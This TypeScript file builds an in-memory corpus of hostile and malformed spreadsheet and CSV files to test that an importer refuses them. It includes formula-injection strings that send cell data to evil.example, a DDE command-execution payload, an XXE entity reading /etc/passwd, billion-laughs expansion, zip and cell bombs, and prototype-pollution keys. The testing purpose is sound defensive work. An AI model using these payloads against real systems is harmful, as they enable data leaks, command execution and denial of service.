/**
 * The hostile and broken input corpus of issue 8: every case is built in memory by code (nothing
 * large is committed), with the workbook writers in tests/helpers (not SheetJS' writer, which is
 * what the importer reads with — except for the .xlsb, refused before SheetJS reads it) and the
 * builders beside this file. What each case must do — import
 * correctly or be refused with one sentence — is asserted in tests/unit/hostile-input.test.ts.
 *
 *   npx tsx tests/hostile/corpus.ts DIR    # writes every case to DIR, to try them in the app
 */
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import { columnName, writeXlsx, type Cell, type SheetSpec } from '../helpers/ooxml';
import { AMPLIFICATION_CASES } from './amplification-cases';
import { CONTAINER_CASES } from './container-corpus';
import { activitySheet, HEADERS, valid, VALID_ROWS } from './baseline';
import { cellBombXlsx, xlsbWorkbook, encryptedOds, encryptedXls, encryptedXlsx, patchZip, repeatedOds, withManyParts, withMacrosAndExternalLink, zipBombXlsx } from './builders';

export interface HostileCase {
  id: string;
  /**
   * An attack on memory or time rather than on meaning: tests/unit/hostile-resources.test.ts imports
   * it with the CLI in a child process and holds its peak memory and time to the issue's bounds.
   */
  bomb?: true;
  /** What the file is, in a few words (for the closing note). */
  what: string;
  fileName: string;
  build: () => Buffer;
}

export { HEADERS, VALID_ROWS } from './baseline';

const PNG = Buffer.concat([
  Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
  Buffer.from('0000000d49484452000000010000000108060000001f15c4890000000d49444154789c6360000000000500010d0a2db40000000049454e44ae426082', 'hex'),
]);

/** The Excel escape `_xHHHH_` is how .xlsx stores characters XML cannot hold. */
const CONTROL_TEXT = 'Bel_x0007_ en escape_x001B_[31m rood_x0000_ nul';
const SURROGATE_TEXT = 'Half emoji _xD83D_ hier';

export const FORMULA_TEXTS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Klik hier")',
  "=cmd|'/c calc'!A1",
  '=WEBSERVICE("http://evil.example/"&B2)',
  '+SUM(1,2)',
  '@SUM(1)',
  '-2+3',
];

const PROTO_WORDS = ['__proto__', 'constructor', 'prototype'];

function protoSheets(): SheetSpec[] {
  return [
    { name: 'Scan', rows: [['Regio', 'Proto'], ['Jaar', 2031], ['__proto__', 'polluted'], ['constructor', 'polluted'], ['prototype', 'polluted']] },
    activitySheet(
      [
        ['__proto__', 'constructor', 'Signaleren', '{"__proto__":{"polluted":"ja"}}', 'prototype', 'polluted', 'polluted', 'polluted'],
        ['constructor', 'prototype', 'Signaleren', 'toString', '__proto__', 'x', 'y', 'z'],
        ['prototype', '__proto__', 'Signaleren', 'hasOwnProperty', 'constructor', null, null, null],
      ],
      'Activiteiten',
      [...HEADERS, ...PROTO_WORDS],
    ),
    ...PROTO_WORDS.map((name) => ({ name, rows: [[name, 'polluted'], ['__proto__', 'polluted']] })),
  ];
}

/** Rows of plain numbers: the row limit is checked before any cell is interpreted, and numbers keep the file quick to build. */
function manyRows(n: number): Cell[][] {
  return Array.from({ length: n }, (_, i) => [(i % 50) + 1, i + 1, 1]);
}

function csv(text: string): Buffer {
  return Buffer.from(text, 'utf8');
}

/** Windows-1252 bytes as Dutch Excel's "CSV (gescheiden door lijstscheidingsteken)" writes them. */
function windows1252(text: string): Buffer {
  const high: Record<string, number> = { '€': 0x80, '‘': 0x91, '’': 0x92, '“': 0x93, '”': 0x94, '–': 0x96 };
  return Buffer.from([...text].map((ch) => high[ch] ?? ch.charCodeAt(0)));
}

export const CASES: HostileCase[] = [
  { id: 'png-renamed', what: 'a PNG image renamed to .xlsx', fileName: 'scan.xlsx', build: () => PNG },
  { id: 'empty-file', what: 'a file of zero bytes', fileName: 'leeg.xlsx', build: () => Buffer.alloc(0) },
  { id: 'truncated-half', what: 'a zip cut off halfway', fileName: 'half.xlsx', build: () => valid().subarray(0, Math.floor(valid().length / 2)) },
  { id: 'truncated-end', what: 'a zip missing its last 10 bytes (end record cut)', fileName: 'afgebroken.xlsx', build: () => valid().subarray(0, valid().length - 10) },
  { id: 'zip-bomb', bomb: true, what: 'a 1 MB zip whose sheet inflates to 1.1 GB while declaring 2 KB', fileName: 'bom.xlsx', build: () => zipBombXlsx(1100) },
  {
    id: 'zip-bomb-honest',
    bomb: true,
    what: 'a 1 MB zip whose sheet inflates to 1,000 MB and says so (under the former 1 GB limit: 2.1 GB of memory)',
    fileName: 'eerlijke-bom.xlsx',
    build: () => zipBombXlsx(1000, { truthful: true }),
  },
  { id: 'zip-bomb-ods', bomb: true, what: 'the same zip bomb named .ods', fileName: 'bom.ods', build: () => zipBombXlsx(1100) },
  { id: 'cell-bomb', bomb: true, what: 'a 0.5 MB .xlsx of 16 million cells (20,000 rows of 800; 240 MB unpacked, under that limit)', fileName: 'cellen.xlsx', build: () => cellBombXlsx(20_000, 800) },
  { id: 'ods-repeated', bomb: true, what: 'a tiny .ods whose one cell is repeated over 1,000 columns and 250,000 rows', fileName: 'herhaald.ods', build: () => repeatedOds(1000, 250_000) },
  { id: 'xlsb', what: 'an Excel binary workbook (.xlsb) named .xlsx', fileName: 'binair.xlsx', build: () => xlsbWorkbook([HEADERS.slice(0, 3), ['A', 'B', 'Signaleren']]) },
  { id: 'csv-separators', bomb: true, what: 'a CSV of 30 MB of semicolons (one row of 31 million empty fields)', fileName: 'puntkomma.csv', build: () => Buffer.alloc(30 * 1024 * 1024, 0x3b) },
  { id: 'csv-blank-lines', bomb: true, what: 'a CSV of 30 MB of line breaks (31 million empty rows)', fileName: 'regels.csv', build: () => Buffer.alloc(30 * 1024 * 1024, 0x0a) },
  { id: 'csv-wide', what: 'a CSV whose second row has 1,001 filled fields', fileName: 'breed.csv', build: () => csv(`${HEADERS.join(';')}\r\n${Array.from({ length: 1001 }, (_, i) => `v${i}`).join(';')}\r\n`) },
  {
    id: 'huge-dimension',
    what: 'a sheet declaring A1:XFD1048576 with a few real cells',
    fileName: 'dimensie.xlsx',
    build: () => patchZip(valid(), { 'xl/worksheets/sheet1.xml': (t) => t.replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:XFD1048576"/>') }),
  },
  { id: 'rows-300k', bomb: true, what: '300,000 rows in one sheet', fileName: 'rijen.xlsx', build: () => writeXlsx([activitySheet(manyRows(300_000))]) },
  {
    id: 'rows-300k-csv',
    bomb: true,
    what: '300,000 rows in a CSV file',
    fileName: 'rijen.csv',
    build: () => csv(`${HEADERS.slice(0, 3).join(';')}\r\n${manyRows(300_000).map((r) => r.join(';')).join('\r\n')}\r\n`),
  },
  { id: 'cell-1mb', bomb: true, what: 'a cell of 1 MB of text', fileName: 'grote-cel.xlsx', build: () => writeXlsx([activitySheet([['A', 'B', 'Signaleren', 'x'.repeat(1024 * 1024), null]])]) },
  {
    id: 'columns-1001',
    what: 'a row with 1,001 filled columns',
    fileName: 'kolommen.xlsx',
    build: () => writeXlsx([activitySheet([...VALID_ROWS, Array.from({ length: 1001 }, (_, c) => columnName(c))])]),
  },
  {
    id: 'sheets-201',
    what: '201 sheets',
    fileName: 'bladen.xlsx',
    build: () => writeXlsx([activitySheet(VALID_ROWS), ...Array.from({ length: 200 }, (_, i) => ({ name: `Blad${i + 2}`, rows: [['x']] }))]),
  },
  {
    id: 'control-characters',
    what: 'control characters (BEL, ESC, NUL) and a lone surrogate in cells',
    fileName: 'controle.xlsx',
    build: () => writeXlsx([activitySheet([['Digitale Werkplaats', CONTROL_TEXT, 'Signaleren', SURROGATE_TEXT, 'C. Industrie'], ...VALID_ROWS.slice(1)])], { sharedStrings: true }),
  },
  {
    id: 'control-characters-csv',
    what: 'control characters and a lone surrogate in a UTF-16 CSV',
    fileName: 'controle.csv',
    build: () => Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(`${HEADERS.join(';')}\r\nWerkplaats\u0007;Act\u001b[31m;Signaleren;half \ud83d emoji;\u0085C. Industrie\r\n`, 'utf16le')]),
  },
  { id: 'prototype-keys', what: '__proto__, constructor and prototype as headers, sheet names, scan keys and values', fileName: 'proto.xlsx', build: () => writeXlsx(protoSheets()) },
  {
    id: 'prototype-groups',
    what: 'three scans in one file whose sheet groups are named __proto__, constructor and toString',
    fileName: 'proto-groepen.xlsx',
    build: () =>
      writeXlsx([activitySheet(VALID_ROWS, '__proto__ Activiteiten'), activitySheet(VALID_ROWS.slice(0, 2), 'constructor Activiteiten'), activitySheet(VALID_ROWS.slice(0, 1), 'toString Activiteiten')]),
  },
  {
    id: 'formulas',
    what: 'formula text (HYPERLINK, DDE cmd, WEBSERVICE, +, @, -) in cells, and formula cells with cached values',
    fileName: 'formules.xlsx',
    build: () =>
      writeXlsx([
        activitySheet([
          ...FORMULA_TEXTS.map((f, i): Cell[] => ['Formules', f, 'Signaleren', `Omschrijving ${i + 1}: ${f}`, null]),
          ['Formules', { formula: 'WEBSERVICE("http://evil.example/x")', cached: 'Gecachte webservice' }, 'Signaleren', { formula: "cmd|'/c calc'!A1", cached: 'Gecachte dde' }, null],
          ['Formules', 'Zonder cache', 'Signaleren', { formula: 'HYPERLINK("http://evil.example","klik")', cached: '' }, null],
        ]),
      ], { sharedStrings: true }),
  },
  { id: 'encrypted', what: 'a password-protected workbook (OLE container with EncryptionInfo)', fileName: 'beveiligd.xlsx', build: encryptedXlsx },
  { id: 'encrypted-xls', what: 'a password-protected Excel 97–2003 .xls (FILEPASS record)', fileName: 'beveiligd.xls', build: encryptedXls },
  { id: 'encrypted-ods', what: 'a password-protected LibreOffice .ods (encrypted content.xml)', fileName: 'beveiligd.ods', build: () => encryptedOds([activitySheet(VALID_ROWS)]) },
  {
    id: 'macros-external-links',
    what: 'a macro-enabled .xlsm with vbaProject.bin and an external link to a network share',
    fileName: 'macro.xlsm',
    build: () => withMacrosAndExternalLink(writeXlsx([activitySheet([...VALID_ROWS, ['TechHub', 'Extern', 'Signaleren', { formula: '[1]Blad1!A1', cached: 'van buiten' }, null]])])),
  },
  {
    id: 'entities',
    what: 'an XML entity expansion (billion laughs) and an external entity (XXE) in the shared strings',
    fileName: 'entiteiten.xlsx',
    build: () =>
      patchZip(writeXlsx([activitySheet([['Lol', 'Entiteit', 'Signaleren', 'LOL_MARKER', null], ...VALID_ROWS])], { sharedStrings: true }), {
        'xl/sharedStrings.xml': (t) => {
          const doctype = `<!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd"><!ENTITY a "aaaaaaaaaa">${Array.from({ length: 9 }, (_, i) => `<!ENTITY ${String.fromCharCode(98 + i)} "${`&${String.fromCharCode(97 + i)};`.repeat(10)}">`).join('')}]>`;
          return t.replace('<sst ', `${doctype}<sst `).replace('LOL_MARKER', '&j;&xxe;');
        },
      }),
  },
  { id: 'csv-windows-1252', what: 'a CSV in Windows-1252 with é, €, curly quotes and an en dash', fileName: 'ansi.csv', build: () => windows1252(`${HEADERS.join(';')}\r\nCafé “De Hoek”;Prijs € 5 – korting;Signaleren;Ondernemer’s dag;C. Industrie\r\n`) },
  { id: 'csv-unbalanced-quotes', what: 'a CSV with a quote that is never closed', fileName: 'quotes.csv', build: () => csv(`${HEADERS.join(';')}\r\nA;"B;Signaleren;x;y\r\nC;D;Signaleren;x;y\r\n`) },
  { id: 'empty-workbook', what: 'a workbook with one empty sheet', fileName: 'leeg-werkboek.xlsx', build: () => writeXlsx([{ name: 'Blad1', rows: [] }]) },
  { id: 'only-headers', what: 'a workbook with only the header row', fileName: 'alleen-koppen.xlsx', build: () => writeXlsx([activitySheet([])]) },
  { id: 'many-parts', bomb: true, what: 'a valid workbook with 65,000 extra tiny zip entries', fileName: 'veel-delen.xlsx', build: () => withManyParts(valid(), 65_000) },
  ...CONTAINER_CASES,
  ...AMPLIFICATION_CASES,
];

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  const dir = process.argv[2] ?? 'hostile-corpus';
  mkdirSync(dir, { recursive: true });
  for (const c of CASES) writeFileSync(join(dir, `${c.id}-${c.fileName}`), c.build());
  console.log(`${CASES.length} files in ${dir}`);
}
